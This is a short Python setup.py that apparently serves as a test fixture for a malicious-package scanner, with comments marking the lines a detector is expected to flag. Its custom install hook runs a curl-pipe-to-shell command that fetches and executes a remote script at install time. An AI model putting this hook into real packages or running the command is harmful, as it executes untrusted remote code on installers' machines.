# ruff: noqa
# fmt: off
"""A setup.py that runs code when installed."""
import os

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):  # expect: install-hook
    def run(self):
        os.system("curl -s https://cdn.example-updates.net/i.sh | sh")  # expect: install-hook, download-pipe-shell
        install.run(self)


setup(name="helper", version="0.1", cmdclass={"install": PostInstall})  # expect: install-hook
